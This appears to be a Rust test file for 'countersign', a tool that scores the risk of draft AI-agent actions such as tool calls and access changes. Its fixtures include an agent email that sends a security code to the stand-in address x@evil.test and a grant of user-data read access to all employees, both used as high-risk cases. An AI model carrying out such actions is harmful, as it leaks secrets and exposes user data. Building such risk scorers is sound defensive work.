//! `countersign score`: offline scoring of one draft or of JSON Lines, no app, no broker.

use std::io::Write;
use std::process::{Command, Stdio};

use serde_json::Value;

fn countersign(args: &[&str], stdin: &str) -> (i32, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_countersign"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
    )
}

const GRANT: &str = r#"{"kind":"acl.change","target":"warehouse://analytics/user_data","summary":"s",
  "payload":{"resource":"analytics.user_data","grants":[{"principal":"all-employees","permission":"read"}]}}"#;

#[test]
fn score_prints_the_score_and_factors_of_a_draft_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("draft.json");
    std::fs::write(&path, GRANT).unwrap();
    let (code, out) = countersign(&["score", path.to_str().unwrap()], "");
    assert_eq!(code, 0, "a valid draft scores: {out}");
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["level"], "critical",
        "the incident grant is critical: {v}"
    );
    assert!(v["factors"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["id"] == "access.broad_principal" && f["pointer"] == "/payload/grants/0"));
    assert!(v["action_digest"].as_str().unwrap().starts_with("sha256:"));
}

#[test]
fn score_jsonl_prints_one_line_per_draft_and_flags_bad_lines() {
    let benign = r#"{"kind":"tool.call","target":"mcp://mail","summary":"s","payload":{"tool":"send_email","arguments":{"to":["bob@example.com"],"body":"lunch?"}}}"#;
    let harmful = r#"{"kind":"tool.call","target":"mcp://mail","summary":"s","payload":{"tool":"send_email","arguments":{"to":["x@evil.test"],"body":"Your security code is 482913"}}}"#;
    let input = format!("{benign}\n\n{harmful}\n{{not json\n");
    let (code, out) = countersign(
        &["score", "--jsonl", "--org-domain", "example.com", "-"],
        &input,
    );
    assert_eq!(code, 1, "a refused line makes the exit status 1");
    let lines: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3, "blank lines are skipped: {out}");
    assert_eq!(lines[0]["line"], 1);
    assert_eq!(lines[1]["line"], 3);
    assert!(
        lines[1]["score"].as_u64() > lines[0]["score"].as_u64(),
        "a code sent outside the organisation outranks a lunch invitation: {out}"
    );
    assert_eq!(lines[2]["error"]["code"], "malformed_json");
}

#[test]
fn score_takes_the_org_domains_from_a_policy_file() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "serial = 1\norg_domains = [\"example.com\"]\n").unwrap();
    let draft = r#"{"kind":"tool.call","target":"mcp://mail","summary":"s","payload":{"tool":"send_email","arguments":{"to":["x@evil.test"],"body":"hi"}}}"#;
    let (code, out) = countersign(&["score", "--policy", policy.to_str().unwrap(), "-"], draft);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("audience.outside_recipient"),
        "the policy's domains make evil.test outside: {out}"
    );
}
